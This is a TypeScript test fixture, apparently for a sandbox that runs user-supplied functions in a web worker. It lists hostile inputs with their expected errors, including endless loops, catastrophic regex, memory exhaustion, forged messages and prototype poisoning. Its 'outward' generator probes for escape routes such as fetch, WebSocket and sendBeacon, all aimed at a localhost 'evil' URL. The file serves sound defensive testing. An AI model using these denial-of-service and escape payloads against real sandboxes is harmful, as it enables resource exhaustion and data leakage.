/** Codes that attack, with the message about each. A code without one runs. */
export const ATTACKS: Readonly<Record<string, readonly [code: string, words: RegExp]>> = {
  'an endless loop': ['function collide() {\n  while (true);\n}', /^Line 2: .*200 ms/],
  'a loop that catches all': ['function collide() {\n  for (;;) try { for (;;); } catch {}\n}', /^Line 2: .*200 ms/],
  'an endless loop outside collide': ['for (;;) ;\nfunction collide() { if (open) throw Error("open"); return []; }', /^Line 1: .*200 ms/],
  'an endless expression': ['function collide() {\n  const a = 1;\n  return /(a+)+b/.test("a".repeat(60));\n}', /^Line 3: .*200 ms/],
  'endless recursion': ['const collide = () => collide();', /^Line 1: (RangeError|InternalError|.*200 ms)/],
  'endless allocation': ['function collide() {\n  const all = [];\n  for (;;) all.push(new Float64Array(100_000).fill(1));\n}', /^Line 3: /],
  'a getter that throws': ['const collide = () => [{get p() { throw new Error("no"); }}];', /Error: no/],
  'a getter that never ends': ['const collide = () => [{get p() { for (;;); }}];', /200 ms/],
  'an error that cannot be read': ['function collide() { throw {get message() { throw this; }}; }', /^Line 1: \?/],
  'a proxy': ['const collide = () => new Proxy([], {get: () => 3, ownKeys: () => { throw 1; }});', /form/],
  'a large result': ['const collide = () => Array.from({length: 1e4}, () => ({p: [1, 2], x: "x".repeat(1e3)}));', /form|200 ms/],
  'a promise': ['async function collide() { return []; }', /form/],
  'a flood of messages': ['function collide() { for (let i = 0; i < 1e6; i++) postMessage("result {}"); return []; }', /messages|form/],
  'large messages': ['function collide() { postMessage("x".repeat(1e6)); return []; }', /messages/],
  'messages after the call': ['setInterval(() => postMessage("ready"), 20); function collide() { return []; }', /messages/],
  'forged messages': ['function collide() { postMessage(`result {"got":[{"p":[1e999,{}]}],"steps":[[-1,[]]]}`); for (;;); }', /messages/],
  'silence': ['onmessage = null; function collide() { close(); for (;;); }', /200 ms/],
  'another worker': ['new Worker(URL.createObjectURL(new Blob(["for (;;) postMessage(1)"]))); function collide() { return []; }', /first differs/],
  'changed prototypes': [`for (const of of [Object, Array, String, Number, Function, Promise, RegExp, Error]) for (const name of Object.getOwnPropertyNames(of.prototype))
    try { if (name !== "constructor") Object.defineProperty(of.prototype, name, {get() { return () => 666; }, configurable: true}); } catch {}
  JSON.stringify = JSON.parse = Object.keys = Array.isArray = Math.abs = Date.now = performance.now = () => 666; postMessage = self.addEventListener = () => 666;
  function collide() { return []; }`, /first differs|form/],
};

/** A code that tries all ways out, to a server at a port too. Its error names the open ways that are not harmless. */
export const outward = (port: number, harmless = ''): string => `const outs = {}; let open = 0;
  const attempt = (name, act) => { try { const got = act(); outs[name] = got === undefined || got === null ? 0 : 1; if (got instanceof Promise) { outs[name] = 0; open++; got.then(() => { outs[name] = 2; }, () => {}).finally(() => open--); } } catch { outs[name] = 0; } };
  const evil = "http://localhost:${port}/evil";
  attempt("fetch", () => fetch(evil));
  attempt("import", () => (0, eval)("import('" + evil + ".js')"));
  attempt("scripts", () => importScripts(evil + ".js"));
  attempt("request", () => { const x = new XMLHttpRequest(); x.open("GET", evil, false); x.send(); return x.status; });
  attempt("socket", () => { new WebSocket(evil.replace("http", "ws")); });
  attempt("events", () => { new EventSource(evil); });
  attempt("worker", () => { new Worker(evil + ".js"); });
  attempt("beacon", () => navigator.sendBeacon(evil, "x") || null);
  for (const name of ["top", "parent", "opener", "frames", "window", "document", "localStorage", "sessionStorage"]) attempt(name, () => (0, eval)(name));
  attempt("origin", () => origin === "null" ? null : origin);
  attempt("database", () => indexedDB.open("x") && null);
  attempt("caches", () => caches.open("x"));
  attempt("service", () => navigator.serviceWorker.register(evil));
  attempt("channel", () => { new BroadcastChannel("clipstage").postMessage("x"); });
  function collide() {
    const found = Object.keys(outs).filter((name) => outs[name] > 0 && name !== "${harmless}");
    if (found.length > 0) throw new Error(found.join());
    return [];
  }`;
